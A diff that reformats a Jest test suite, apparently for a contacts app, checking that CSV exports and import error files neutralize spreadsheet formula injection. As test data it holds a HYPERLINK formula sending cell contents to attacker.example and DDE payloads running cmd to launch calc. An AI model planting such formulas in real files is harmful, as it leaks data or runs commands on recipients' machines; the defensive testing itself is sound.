@@ -14,11 +14,18 @@ import { TestApi } from '../support/test-app.js';
 jest.setTimeout(120_000);
 
 const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&C2&D2,"Cliquez")';
-const FORMULAS = { firstName: HYPERLINK, lastName: '@SUM(1+1)*cmd|\' /C calc\'!A0', addressLine1: '-2+3+cmd|\' /C calc\'!A0', city: '+1+1' };
+const FORMULAS = {
+  firstName: HYPERLINK,
+  lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
+  addressLine1: "-2+3+cmd|' /C calc'!A0",
+  city: '+1+1',
+};
 const START = `mutation($format: ExportFormat!, $options: ExportOptionsInput) { startExport(format: $format, options: $options) { id } }`;
 const CREATE_AUDIENCE = `mutation($input: CreateAudienceInput!) { createAudience(input: $input) { id } }`;
 
-describeOnQueueBackends((backend) => `CSV formula injection, on the ${backend} backend`, (env) => {
+describeOnQueueBackends(
+  (backend) => `CSV formula injection, on the ${backend} backend`,
+  (env) => {
     let api: TestApi;
     let token: string;
 
@@ -37,7 +44,8 @@ describeOnQueueBackends((backend) => `CSV formula injection, on the ${backend} b
       return (await response.text()).replace(/^\uFEFF/, '');
     };
     /** The CSV's rows as objects, by the header's names. */
-    const records = (text: string, delimiter: string) => Papa.parse<Record<string, string>>(text, { delimiter, header: true, skipEmptyLines: true }).data;
+    const records = (text: string, delimiter: string) =>
+      Papa.parse<Record<string, string>>(text, { delimiter, header: true, skipEmptyLines: true }).data;
     const finished = async (id: string) => {
       const run = await api.finishedRun(token, id);
       expect(run.status).toBe('SUCCEEDED');
@@ -50,16 +58,27 @@ describeOnQueueBackends((backend) => `CSV formula injection, on the ${backend} b
     };
 
     it('neutralizes formula-like cells in CSV and CSV-for-Excel exports, leaving a phone as it is, and NDJSON raw', async () => {
-      for (const [options, delimiter] of [[{}, ','], [{ excel: true }, ';']] as const) {
+      for (const [options, delimiter] of [
+        [{}, ','],
+        [{ excel: true }, ';'],
+      ] as const) {
         const { startExport } = await api.ok<any>(token, START, { format: 'CSV', options });
         const [contact] = records(await download((await finished(startExport.id)).downloadPath), delimiter);
         expect(contact).toMatchObject({
-          first_name: `'${FORMULAS.firstName}`, last_name: `'${FORMULAS.lastName}`, address_line1: `'${FORMULAS.addressLine1}`, city: `'${FORMULAS.city}`,
-          tags: "'=tag", email: 'formules@example.org', phone: '+15145550101',
+          first_name: `'${FORMULAS.firstName}`,
+          last_name: `'${FORMULAS.lastName}`,
+          address_line1: `'${FORMULAS.addressLine1}`,
+          city: `'${FORMULAS.city}`,
+          tags: "'=tag",
+          email: 'formules@example.org',
+          phone: '+15145550101',
         });
       }
       const { startExport } = await api.ok<any>(token, START, { format: 'NDJSON' });
-      const [contact] = (await download((await finished(startExport.id)).downloadPath)).trim().split('\n').map((line) => JSON.parse(line));
+      const [contact] = (await download((await finished(startExport.id)).downloadPath))
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line));
       expect(contact).toMatchObject({ ...FORMULAS, tags: ['=tag'], phone: '+15145550101' });
     });
 
@@ -70,22 +89,48 @@ describeOnQueueBackends((backend) => `CSV formula injection, on the ${backend} b
       const text = await download(run.downloadPath);
       const [header, row] = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true }).data;
       expect(header).toEqual(['Prénom', 'Nom', 'Courriel', "'=Remarque", 'error']);
-      expect(row).toEqual([`'${HYPERLINK}`, "'-Tremblay", 'pas-un-courriel', "'@note", 'Courriel: not a valid email address']);
+      expect(row).toEqual([
+        `'${HYPERLINK}`,
+        "'-Tremblay",
+        'pas-un-courriel',
+        "'@note",
+        'Courriel: not a valid email address',
+      ]);
 
       const again = await importFile(text.replace('pas-un-courriel', 'hyperlien@example.org'), { dedup: 'false' });
       expect(again.counts).toMatchObject({ rows: 1, invalid: 0, created: 1 });
-      const { contacts } = await api.ok<any>(token, `{ contacts(first: 5, filter: { search: "hyperlien@example.org" }) { edges { node { firstName lastName } } } }`);
+      const { contacts } = await api.ok<any>(
+        token,
+        `{ contacts(first: 5, filter: { search: "hyperlien@example.org" }) { edges { node { firstName lastName } } } }`,
+      );
       expect(contacts.edges).toEqual([{ node: { firstName: HYPERLINK, lastName: '-Tremblay' } }]);
     });
 
     it('neutralizes the rejected rows of an interactions import and of an audience members import', async () => {
-      const sales = await importFile(`No client;Date;Spectacle;Type\n@C1;2025-02-30;=1+1;Don\n`, { source: 'billetterie' }, '/imports/interactions');
-      const [, sale] = Papa.parse<string[]>(await download(sales.downloadPath), { delimiter: ';', skipEmptyLines: true }).data;
+      const sales = await importFile(
+        `No client;Date;Spectacle;Type\n@C1;2025-02-30;=1+1;Don\n`,
+        { source: 'billetterie' },
+        '/imports/interactions',
+      );
+      const [, sale] = Papa.parse<string[]>(await download(sales.downloadPath), {
+        delimiter: ';',
+        skipEmptyLines: true,
+      }).data;
       expect(sale.slice(0, 3)).toEqual(["'@C1", '2025-02-30', "'=1+1"]);
 
-      const { createAudience } = await api.ok<any>(token, CREATE_AUDIENCE, { input: { name: 'Liste', kind: 'STATIC' } });
-      const members = await importFile(`no client;note\n+cmd|' /C calc'!A0;=HYPERLINK("x")\n`, { source: 'billetterie' }, `/audiences/${createAudience.id}/members`);
-      const [, member] = Papa.parse<string[]>(await download(members.downloadPath), { delimiter: ';', skipEmptyLines: true }).data;
+      const { createAudience } = await api.ok<any>(token, CREATE_AUDIENCE, {
+        input: { name: 'Liste', kind: 'STATIC' },
+      });
+      const members = await importFile(
+        `no client;note\n+cmd|' /C calc'!A0;=HYPERLINK("x")\n`,
+        { source: 'billetterie' },
+        `/audiences/${createAudience.id}/members`,
+      );
+      const [, member] = Papa.parse<string[]>(await download(members.downloadPath), {
+        delimiter: ';',
+        skipEmptyLines: true,
+      }).data;
       expect(member.slice(0, 2)).toEqual(["'+cmd|' /C calc'!A0", `'=HYPERLINK("x")`]);
     });
-});
+  },
+);
